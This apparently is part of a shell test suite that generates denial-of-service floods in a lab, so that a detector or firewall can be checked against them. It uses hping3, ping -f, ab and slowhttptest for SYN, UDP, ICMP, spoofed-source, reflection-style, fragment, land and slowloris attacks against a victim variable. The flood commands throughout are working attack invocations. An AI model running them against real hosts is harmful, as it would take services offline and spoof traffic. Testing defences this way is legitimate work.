# Floods.
hp() { att hping3 -I eth0 -q "$@"; }
c syn1 flood $A $V out 1 'hping3 -S one source 5,000/s'
do_syn1() { hp -a $A -S -p 80 -i u200 -c 12000 $V; }
c syn1slow flood $A $V out 1 'hping3 -S one source 500/s'
do_syn1slow() { hp -a $A -S -p 80 -i u2000 -c 3000 $V; }
c synrand flood '*' $V out 1 'hping3 -S --rand-source 5,000/s'
do_synrand() { hp --rand-source -S -p 80 -i u200 -c 12000 $V; }
c synrandslow flood '*' $V out 1 'hping3 -S --rand-source 300/s'
do_synrandslow() { hp --rand-source -S -p 80 -i u3300 -c 2400 $V; }
c synrand_data flood '*' $V out 1 'hping3 -S -d 120 -w 64 --rand-source (the tutorial)'
do_synrand_data() { hp -S -d 120 -w 64 -p 80 --rand-source -i u200 -c 8000 $V; }
c udp1 flood $A $V out 1 'hping3 --udp one source 5,000/s'
do_udp1() { hp -a $A --udp -p 53 -i u200 -c 12000 $V; }
c udprand flood '*' $V out 1 'hping3 --udp --rand-source'
do_udprand() { hp --rand-source --udp -p 80 -i u200 -c 12000 $V; }
c udp_ports flood $A $V out 1 'hping3 --udp -p ++1'
do_udp_ports() { hp -a $A --udp -p ++1000 -i u200 -c 12000 $V; }
c icmp1 flood $A $V out 1 'hping3 --icmp'
do_icmp1() { hp -a $A --icmp -i u200 -c 12000 $V; }
c icmprand flood '*' $V out 1 'hping3 --icmp --rand-source'
do_icmprand() { hp --rand-source --icmp -i u200 -c 12000 $V; }
c ping_f flood $A $V out 1 'ping -f'
do_ping_f() { att ping -q -f -I $A -c 12000 -w 12 $V; }
c ack1 flood $A $V out 1 'hping3 -A'
do_ack1() { hp -a $A -A -p 80 -i u200 -c 12000 $V; }
c ackrand flood '*' $V out 1 'hping3 -A --rand-source'
do_ackrand() { hp --rand-source -A -p 80 -i u200 -c 12000 $V; }
c finrand flood '*' $V out 1 'hping3 -F --rand-source'
do_finrand() { hp --rand-source -F -p 80 -i u200 -c 12000 $V; }
c rst1 flood $A $V out 1 'hping3 -R'
do_rst1() { hp -a $A -R -p 80 -i u200 -c 12000 $V; }
c xmasrand flood '*' $V out 1 'hping3 -FPU --rand-source'
do_xmasrand() { hp --rand-source -F -P -U -p 80 -i u200 -c 12000 $V; }
c nullrand flood '*' $V out 1 'hping3 no flags --rand-source'
do_nullrand() { hp --rand-source -p 80 -i u200 -c 12000 $V; }
c synack_reflect flood '*' $V out 1 'SYN-ACKs of port 443 from anywhere'
do_synack_reflect() { hp --rand-source -S -A -s 443 -k -p 5555 -i u200 -c 12000 $V; }
c dns_reflect flood '*' $V out 1 'UDP answers of port 53 from anywhere, 1,000 octets'
do_dns_reflect() { hp --rand-source --udp -s 53 -k -p 5555 -d 1000 -i u400 -c 6000 $V; }
c ntp_reflect flood '*' $V out 1 'UDP answers of port 123, 440 octets, 500/s'
do_ntp_reflect() { hp --rand-source --udp -s 123 -k -p 5555 -d 440 -i u2000 -c 3000 $V; }
c frag flood $A $V out 1 'hping3 --udp -d 3000 (fragments)'
do_frag() { hp -a $A --udp -p 80 -d 3000 -i u1000 -c 3000 $V; }
c fragonly flood $A $V out 1 'hping3 rawip -f -g: fragments alone'
do_fragonly() { hp -a $A --udp -p 80 -x -g 64 -d 800 -i u400 -c 6000 $V; }
c land flood $V $V out 1 'land: source is the victim'
do_land() { hp -a $V -S -p 80 -s 80 -k -i u500 -c 5000 $V; }
c ab_flood flood $A $V out 1 'ab -c 100 -n 15000'
do_ab_flood() { att ab -q -r -c 100 -n 15000 -B $A http://$V/; }
c slowloris flood 198.18.0.10 $V out 1 'slowhttptest -H -c 600'
do_slowloris() { att slowhttptest -H -c 600 -r 200 -i 3 -l 12 -u http://$V/; }
c slowread flood 198.18.0.10 $V out 1 'slowhttptest -X -c 400'
do_slowread() { att slowhttptest -X -c 400 -r 200 -l 12 -u http://$V/1m; }
c conn8 flood "$(range 198.18.0 11 18)" $V out 1 'eight sources of SYNs, 300/s each'
do_conn8() {
  local i
  for i in 1 2 3 4 5 6 7 8; do hp -a 198.18.0.1$i -S -p 80 -i u3300 -c 1500 $V & done
  wait
}
c smallflood flood $A 198.19.0.30 out 1 'SYNs at a port that is dropped, 1,000/s'
do_smallflood() { hp -a $A -S -p 4444 -i u1000 -c 5000 198.19.0.30; }
c flood6 flood 2001:2:0:1::0:10 $V6 out 1 'ping6 -f'
do_flood6() { att ping -6 -q -f -I 2001:2:0:1::0:10 -c 12000 -w 12 $V6; }
